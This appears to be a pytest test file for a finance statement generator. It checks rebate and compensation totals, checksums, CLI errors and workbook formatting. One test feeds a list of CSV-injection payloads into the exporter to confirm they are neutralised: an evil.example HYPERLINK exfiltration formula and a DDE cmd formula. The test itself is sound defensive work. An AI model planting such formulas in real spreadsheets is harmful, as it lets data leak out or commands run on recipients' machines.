"""Finance statements: final figures only, totals and checksums that match the warehouse."""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import re
import subprocess
import sys
import time
import zipfile
from decimal import Decimal

import duckdb
import pytest
from openpyxl import load_workbook

from fullsite.layout import Layout
from publications.statements import compensation_statement
from tests.conftest import NEXT
from tests.published import query


@pytest.fixture
def july_final(next_night_root):
    """Published through 2024-08-02: July's rebates are final."""
    return next_night_root


def cli(*args):
    return subprocess.run([sys.executable, "-m", "orchestration.cli", *args], capture_output=True, text=True)


def test_rebate_statement_matches_the_warehouse(july_final, tmp_path):
    """Night: the shared next night, made in tests/conftest.py (next_night)."""
    out = tmp_path / "stmt"
    result = cli("report", "rebates", "--data-root", str(july_final), "--month", "2024-07", "--out", str(out))
    assert result.returncode == 0, result.stderr
    manifest = json.loads((out / "manifest.json").read_text())
    (n, total), = query(july_final / "warehouse.duckdb",
                        "select count(*), sum(rebate_amount) from finance.merchant_rebates_monthly where month = DATE '2024-07-01' and status = 'final'")
    assert manifest["rows"] == n and Decimal(manifest["totals"]["rebate_amount"]) == total
    for name, meta in manifest["files"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == meta["sha256"]
    lines = list(csv.reader(open(out / "rebates-2024-07.csv")))
    assert lines[0][:3] == ["merchant_id", "merchant_name", "merchant_tier"]
    assert len(lines) == n + 2 and lines[-1][0] == "TOTAL"
    assert sum(Decimal(r[-1]) for r in lines[1:-1]) == Decimal(lines[-1][-1]) == total
    sheet = load_workbook(out / "rebates-2024-07.xlsx").active
    assert sheet.max_row == n + 2 and sheet.cell(sheet.max_row, 1).value == "TOTAL"


def test_a_month_not_final_is_a_clear_error(july_final):
    """Night: the shared next night, made in tests/conftest.py (next_night)."""
    result = cli("report", "rebates", "--data-root", str(july_final), "--month", "2024-08")
    assert result.returncode == 2 and "not final yet" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_a_range_without_final_compensation_is_a_clear_error(july_final):
    """Night: the shared next night, made in tests/conftest.py (next_night)."""
    result = cli("report", "compensation", "--data-root", str(july_final), "--from", "2024-07-01", "--to", "2024-07-02")
    assert result.returncode == 2 and "no final compensation" in result.stderr


@pytest.mark.parametrize("args, message", [
    (["run", "--data-root", "/nonexistent/root", "--date", "2024-08-01"], "unknown data root"),
    (["run", "--data-root", ".", "--date", "2024-8-1"], "--date must be a date"),
    (["report", "rebates", "--data-root", ".", "--month", "July"], "--month must be YYYY-MM"),
    (["backfill", "--data-root", ".", "--from", "2024-08-02", "--to", "2024-08-01"], "is before --from"),
])
def test_bad_arguments_get_one_line(args, message):
    result = cli(*args)
    assert result.returncode == 2 and message in result.stderr, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr


HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+2", "-3+4", "@SUM(1)",
           "\t=1", "\r=1", "bell\x07name"]


def _fake_warehouse(root, names=("M one", "M two"), ids=("A-v1", "B-v1")):
    """The tables the compensation statement reads, with known final claims."""
    con = duckdb.connect(str(root / "warehouse.duckdb"))
    con.execute("create schema finance")
    con.execute("create schema marts")
    con.execute(f"""create table finance.compensation_claims as select * from (values
        ('{ids[0]}','A','M1','P1',DATE '2024-07-01',DATE '2024-07-07',DATE '2024-07-01','final',1000.00::decimal(18,2),2100.00::decimal(18,2),3.00::decimal(10,2),2.1::double,'tier_2','compensated',222.22::decimal(18,2)),
        ('{ids[1]}','B','M2','P2',DATE '2024-07-02',DATE '2024-07-08',DATE '2024-07-01','final',300.00::decimal(18,2),100.00::decimal(18,2),2.00::decimal(10,2),0.333::double,'tier_1','compensated',244.44::decimal(18,2)),
        ('C-v1','C','M2','P3',DATE '2024-07-02',DATE '2024-07-08',DATE '2024-07-01','final',300.00::decimal(18,2),900.00::decimal(18,2),2.00::decimal(10,2),3.0::double,'tier_1','target_met',0.00::decimal(18,2)),
        ('D-v1','D','M2','P4',DATE '2024-07-02',NULL,DATE '2024-07-01','void',300.00::decimal(18,2),0.00::decimal(18,2),2.00::decimal(10,2),0.0::double,'tier_1','void_settings_changed',0.00::decimal(18,2))
        ) t(campaign_version_id, campaign_id, merchant_id, product_id, start_date, close_date, settlement_month, status, spend, gmv, target_roi, roi, roi_choice, reason, compensation_amount)""")
    con.execute("create table marts.dim_merchant (merchant_id varchar, merchant_name varchar)")
    con.execute("insert into marts.dim_merchant values ('M1', ?), ('M2', ?)", list(names))
    con.execute("create schema params")  # the file's own build record, as every published warehouse has
    con.execute("""create table params.warehouse_build as select 'p' as fingerprint, 'c' as content_fingerprint,
                   TIMESTAMPTZ '2024-08-03 20:00:00+00' as built_at, DATE '2024-08-03' as data_through,
                   'r' as run_id, 'd' as dagster_run_id""")
    con.execute("create table params.rule_parameters as select * from (values ('protection_trigger', '0.90', ''), "
                "('min_protected_spend', '100.00', '')) t(parameter, value, note)")
    con.close()
    (root / "raw").mkdir()
    return Layout(root)


def test_compensation_statement_totals(tmp_path):
    out, manifest = compensation_statement(_fake_warehouse(tmp_path), dt.date(2024, 7, 1), dt.date(2024, 7, 31))
    assert manifest["rows"] == 2 and manifest["totals"]["compensation_amount"] == "466.66"
    lines = list(csv.reader(open(out / "compensation-2024-07-01-2024-07-31.csv")))
    assert [r[0] for r in lines[1:]] == ["A-v1", "B-v1", "TOTAL"] and lines[-1][-1] == "466.66"
    assert lines[0][3] == "merchant_name" and lines[1][3] == "M one" and "achievement" in lines[0]
    sheet = load_workbook(out / "compensation-2024-07-01-2024-07-31.xlsx")
    assert sheet.sheetnames == ["comp 2024-07-01..2024-07-31", "Notes"]


def test_no_cell_from_data_is_ever_a_formula(tmp_path):
    """OWASP CSV injection: names and ids that a spreadsheet would run."""
    out, _ = compensation_statement(_fake_warehouse(tmp_path, names=HOSTILE[:2], ids=HOSTILE[2:4]),
                                    dt.date(2024, 7, 1), dt.date(2024, 7, 31))
    xlsx = out / "compensation-2024-07-01-2024-07-31.xlsx"
    with zipfile.ZipFile(xlsx) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    values = {c.value for row in load_workbook(xlsx).active.iter_rows() for c in row}
    assert set(HOSTILE[:4]) <= values  # shown exactly as written, as text
    text = (out / "compensation-2024-07-01-2024-07-31.csv").read_text()
    for bad in HOSTILE[:4]:
        cell = bad.replace('"', '""')
        assert f"'{cell}" in text and not re.search(r"(^|,)\"?" + re.escape(cell), text, re.M)


def test_cell_text_is_neutralised_and_illegal_characters_kept_visible():
    from publications.statements import ILLEGAL, csv_text
    assert [csv_text(v) for v in HOSTILE[2:7]] == ["'" + v for v in HOSTILE[2:7]]
    assert csv_text("Merchant 1") == "Merchant 1" and csv_text("") == ""
    assert ILLEGAL.sub(lambda m: f"\\x{ord(m.group()):02x}", HOSTILE[7]) == "bell\\x07name"


def test_a_statement_reissued_from_the_same_warehouse_is_byte_identical(july_final, tmp_path):
    """Night: the shared next night, made in tests/conftest.py (next_night)."""
    first, second = tmp_path / "one", tmp_path / "two"
    assert cli("report", "rebates", "--data-root", str(july_final), "--month", "2024-07", "--out", str(first)).returncode == 0
    time.sleep(1.1)  # a second later: zip times and document properties must not follow the clock
    assert cli("report", "rebates", "--data-root", str(july_final), "--month", "2024-07", "--out", str(second)).returncode == 0
    for name in ("rebates-2024-07.csv", "rebates-2024-07.xlsx"):
        assert (first / name).read_bytes() == (second / name).read_bytes(), name
    manifest = json.loads((first / "manifest.json").read_text())
    asof = manifest["as_of"]
    assert asof["warehouse_fingerprint"] and asof["warehouse_built_at"] and asof["rules_sha256"]
    assert asof["last_published_ingest_date"] == str(NEXT) and asof["last_run_id"].startswith(str(NEXT))
    assert asof["code"]["package"] and manifest["period"] == "2024-07" and manifest["generated_at"]


def test_the_rebate_workbook_reads_like_a_statement(july_final, tmp_path):
    """Night: the shared next night, made in tests/conftest.py (next_night)."""
    result = cli("report", "rebates", "--data-root", str(july_final), "--month", "2024-07", "--out", str(tmp_path))
    assert "totals (CNY) spend" in result.stdout and "{" not in result.stdout  # no Python dict
    book = load_workbook(tmp_path / "rebates-2024-07.xlsx")
    sheet = book["rebates 2024-07"]
    header = [c.value for c in sheet[1]]
    assert all(c.font.bold for c in sheet[1]) and sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    row = dict(zip(header, sheet[2], strict=True))
    assert isinstance(row["month"].value, dt.datetime) and row["rebate_rate"].number_format == "0.00%"
    assert row["spend"].number_format == "#,##0.00" and sheet.column_dimensions["B"].width > 8
    total = sheet[sheet.max_row]
    assert total[0].value == "TOTAL" and total[0].font.bold
    notes = {r[0].value: r[1].value for r in book["Notes"].iter_rows()}
    assert "Rates in force: sme" in notes and "≥ 3,000: 0.8 %" in notes["Rates in force: sme"]
    assert "gap" in notes["Spend tie-out"] and "As of" in notes and "Control" in notes


def test_explain_reproduces_a_rebate_from_its_inputs(july_final):
    """Night: the shared next night, made in tests/conftest.py (next_night)."""
    (merchant, rebate), = query(july_final / "warehouse.duckdb", """select merchant_id, rebate_amount
        from finance.merchant_rebates_monthly where month = DATE '2024-07-01' order by rebate_amount desc limit 1""")
    shown = cli("explain", "rebate", merchant, "2024-07", "--data-root", str(july_final))
    assert shown.returncode == 0, shown.stderr
    assert f"= {rebate:,.2f}" in shown.stdout and f"result:    {rebate:,.2f} CNY" in shown.stdout and "reached:" in shown.stdout
    unknown = cli("explain", "compensation", "X-v9", "--data-root", str(july_final))
    assert unknown.returncode == 2 and unknown.stderr.strip() == f"error: unknown campaign version 'X-v9' in {july_final / 'warehouse.duckdb'}"


def test_explain_reproduces_the_specs_compensation_example(tmp_path):
    """rules.md's example: target 3.00, spend 1,000.00, GMV 2,100.00 → 222.22."""
    layout = _fake_warehouse(tmp_path)
    con = duckdb.connect(str(layout.warehouse))
    con.execute("alter table finance.compensation_claims add column eligible boolean default true")
    con.execute("""create table marts.dim_campaign_versions as select 'A-v1' campaign_version_id, 'A' campaign_id,
                   1 version_no, 'M1' merchant_id, 'P1' product_id, TIMESTAMPTZ '2024-07-01 02:00:00+00' valid_from,
                   null::timestamptz valid_to, DATE '2024-07-01' start_date, 200.00::decimal(18,2) daily_budget,
                   3.00::decimal(10,2) target_roi, 'tier_2' roi_choice, true is_tagged""")
    con.execute("""create table marts.campaign_roi_7d as select 'A-v1' campaign_version_id, DATE '2024-07-07' close_date,
                   7 spend_days, 1000.00::decimal(18,2) spend, 2100.00::decimal(18,2) gmv, 2.1::double roi,
                   0.7::double achievement, 'final' status""")
    con.execute("""create table marts.fct_campaign_daily as select 'A-v1' campaign_version_id,
                   DATE '2024-07-01' + k::int as business_date, (1000.00 / 7)::decimal(18,2) + (k = 0)::int * 0.06 as spend,
                   300.00::decimal(18,2) as gmv from range(7) t(k)""")
    con.close()
    from publications.explain import compensation
    lines = "\n".join(compensation(layout, "A-v1"))
    assert "round2(1,000.00 − 2,100.00 / (0.90 × 3.00)) = round2(222.2222222222) = 222.22" in lines
    assert "result:    222.22 CNY, reason compensated, status final, settled in 2024-07" in lines
    assert "2024-07-07" in lines and "(achievement 70.00%)" in lines
